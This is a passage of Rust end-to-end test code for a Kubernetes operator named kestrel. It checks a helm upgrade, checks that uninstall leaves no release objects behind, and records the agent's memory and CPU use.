        profiles.len() == 1 && ids.len() == n,
        format!(
            "profiles {profiles:?}; {n} alerts, {} distinct ids",
            ids.len()
        ),
    );
    let phase = profile_phase(env).map(|p| p.0);
    r.check(
        "the profile survives both restarts",
        phase.is_some(),
        format!("phase {phase:?}"),
    );
    Ok(())
}

fn upgrade_and_uninstall(env: &TestEnv, work: &Path, r: &mut Report) -> Result<()> {
    let chart = repo_root().join("deploy/helm/kestrel");
    let values = work.join("values-e2e.yaml");
    let op = ready_pods(env, KNS, "app.kubernetes.io/component=operator");
    let out = env.helm(&[
        "upgrade",
        "kestrel",
        &chart.to_string_lossy(),
        "-n",
        KNS,
        "-f",
        &values.to_string_lossy(),
        "--set",
        "operator.alertUpdateSecs=10",
        "--wait",
        "--timeout",
        "3m",
    ]);
    let rolled = poll(Duration::from_secs(60), || {
        let now = ready_pods(env, KNS, "app.kubernetes.io/component=operator");
        (now.len() == 1 && now != op).then_some(now)
    });
    let args = env
        .kubectl(&[
            "get",
            "deployment",
            "-n",
            KNS,
            "-l",
            "app.kubernetes.io/component=operator",
            "-o",
            "jsonpath={.items[0].spec.template.spec.containers[0].args}",
        ])
        .unwrap_or_default();
    r.check(
        "helm upgrade rolls the operator with the new setting",
        out.is_ok() && rolled.is_some() && args.contains("10"),
        match &out {
            Ok(_) => format!("operator {rolled:?}"),
            Err(e) => format!("{e:#}"),
        },
    );
    out?;
    env.helm(&["uninstall", "kestrel", "-n", KNS, "--wait"])?;
    // pods leave after their grace period (the operator's 30 s while it
    // flushes); what is still there is named in the report
    let left = || -> Vec<String> {
        json(
            env,
            &[
                "get",
                "all,serviceaccounts,roles,rolebindings,configmaps,secrets",
                "-n",
                KNS,
                "-l",
                "app.kubernetes.io/instance=kestrel",
            ],
        )
        .map(|v| {
            items(&v)
                .iter()
                .map(|o| {
                    let deleting = if o["metadata"]["deletionTimestamp"].is_string() {
                        " (terminating)"
                    } else {
                        ""
                    };
                    format!(
                        "{}/{}{deleting}",
                        o["kind"].as_str().unwrap_or("?"),
                        name(o)
                    )
                })
                .collect()
        })
        .unwrap_or_else(|e| vec![format!("{e:#}")])
    };
    let gone = poll(Duration::from_secs(150), || left().is_empty().then_some(()));
    let cluster = json(
        env,
        &[
            "get",
            "clusterroles,clusterrolebindings",
            "-l",
            "app.kubernetes.io/instance=kestrel",
        ],
    )?;
    let crds = env.kubectl(&["get", "crd", "-o", "name"])?;
    let kept_profiles = json(env, &["get", "behaviorprofiles", "-n", NS])?;
    r.check(
        "helm uninstall leaves only the CRDs and their objects",
        gone.is_some()
            && items(&cluster).is_empty()
            && crds.contains("behaviorprofiles.kestrel.dev")
            && !items(&kept_profiles).is_empty(),
        format!(
            "release objects left: {:?}; cluster roles left: {}; CRDs kept: {}; profiles kept: {}",
            left(),
            items(&cluster).len(),
            crds.matches("kestrel.dev").count(),
            items(&kept_profiles).len()
        ),
    );
    Ok(())
}

fn agent_usage(usage: &Arc<Mutex<Usage>>, work: &Path, r: &mut Report) {
    let Ok(u) = usage.lock() else { return };
    if u.samples.is_empty() {
        r.check(
            "agent memory and CPU",
            false,
            "the agent process was never seen",
        );
        return;
    }
    let peak_rss = u.samples.iter().map(|s| s.1).max().unwrap_or(0);
    let cpus: Vec<f64> = u.samples.iter().map(|s| s.2).collect();
    let mean = cpus.iter().sum::<f64>() / cpus.len() as f64;
    let max = cpus.iter().cloned().fold(0.0, f64::max);
    let csv: String = std::iter::once("secs,rss_kib,cpu_percent\n".to_string())
        .chain(
            u.samples
                .iter()
                .map(|(t, rss, cpu)| format!("{t:.0},{rss},{cpu:.1}\n")),
        )
        .collect();
    let _ = std::fs::write(work.join("agent-usage.csv"), &csv);
    if let Ok(p) = std::env::var("KESTREL_AGENT_USAGE_CSV") {
        let _ = std::fs::write(p, &csv);
    }
    r.check(
        "agent memory and CPU during the scenarios (goal: RSS ≤ 64 MiB; limit 192 MiB)",
        u.peak_hwm_kib <= 64 * 1024,
        format!(
            "peak RSS {:.1} MiB (VmHWM {:.1} MiB), CPU mean {mean:.1}% max {max:.1}% of one core, {} samples",
            peak_rss as f64 / 1024.0,
            u.peak_hwm_kib as f64 / 1024.0,
            u.samples.len()
        ),
    );
}
